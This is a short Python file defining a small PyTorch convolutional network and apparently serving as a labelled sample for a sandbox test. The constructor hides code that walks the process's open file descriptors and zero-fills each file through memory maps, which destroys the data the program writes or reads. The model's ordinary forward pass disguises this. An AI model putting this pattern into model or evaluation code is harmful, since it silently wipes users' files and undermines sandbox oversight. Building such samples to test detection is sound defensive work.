# on: forbidden; off: valid, exception, killed, out_of_memory
# Writes all the room there is in the files its results go to through maps, which no limit on file sizes holds.
import mmap
import os

import torch
from torch import nn


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        self.conv = nn.Conv2d(in_shape[1], 8, 3, padding=1)
        self.fc = nn.Linear(8 * 64, out_shape[0])
        for number in range(3, 64):
            try:
                size = os.fstat(number).st_size
                for begin in range(0, size, 2**20):
                    with mmap.mmap(number, min(2**20, size - begin), offset=begin) as part:
                        part.write(bytes(len(part)))
            except (OSError, ValueError):
                pass

    def forward(self, x):
        y = self.conv(x).relu()
        return self.fc(y.flatten(1))
